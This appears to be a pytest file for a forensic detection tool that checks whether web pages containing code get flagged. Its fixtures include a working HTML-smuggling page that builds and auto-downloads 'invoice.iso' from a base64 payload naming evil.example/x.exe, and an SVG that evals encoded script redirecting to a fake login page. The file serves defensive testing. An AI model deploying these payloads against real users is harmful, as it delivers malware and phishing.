"""Web pages with code are scripts: what a page builds out of text is seen, and a page without code is none."""

from __future__ import annotations

import base64

import pytest

from commodore import catalogue
from commodore.artefact import Record
from commodore.evidence import Evidence
from commodore.host import Host

PAYLOAD = base64.b64encode(b"wscript.shell run http://evil.example/x.exe " * 5).decode()
SMUGGLED = (
    f'<html><script>var f="{PAYLOAD}";var b=new Blob([Uint8Array.from(atob(f),c=>c.charCodeAt(0))]);'
    'var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.iso";a.click();</script></html>'
)
EXPORT = (
    "<script>function save(rows){const b=new Blob([rows.join('\\n')],{type:'text/csv'});const a=document.createElement('a');"
    "a.href=URL.createObjectURL(b);a.download='table.csv';a.click()}</script>"
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[eval(atob("{}"))]]></script></svg>'.format(
    base64.b64encode(b"location.href='http://evil.example/login'").decode()
)


def read(name: str, text: str) -> tuple[list[dict], int]:
    known = catalogue.artefacts()["scripts"]
    evidence = Evidence(f"/home/ada/{name}", text.encode())
    assert known.expected is not None
    return [one.fields for one in known.parse(evidence, Host("c")) if isinstance(one, Record)], known.expected(evidence) or 0


def test_a_page_that_builds_a_file_is_a_finding_and_its_layers_are_read() -> None:
    (found,), expected = read("smuggle.html", SMUGGLED)
    assert (expected, found["escadre.severity"], found["escadre.script.language"]) == (1, "high", "page")
    assert "page-makes-a-file" in found["escadre.traits.ids"]
    assert found["related.hosts"] == ["evil.example"]


def test_a_picture_with_code_is_read_as_a_page() -> None:
    (found,), _ = read("picture.svg", SVG)
    assert found["escadre.found.urls"] == ["http://evil.example/login"]


@pytest.mark.parametrize("text", [EXPORT, "<body onload='start()'>", '<a href="javascript:void(0)">x</a>'])
def test_what_honest_pages_do_is_no_finding(text: str) -> None:
    (found,), expected = read("page.htm", text)
    assert (expected, "escadre.severity" in found) == (1, False), found


@pytest.mark.parametrize("text", ["", "<html><p>on Monday = <b>descriptions of <scripts></b></html>", '<svg><path d="M0 0"/></svg>'])
def test_a_page_without_code_is_no_script_and_nothing_is_lost(text: str) -> None:
    assert read("page.html", text) == ([], 0)
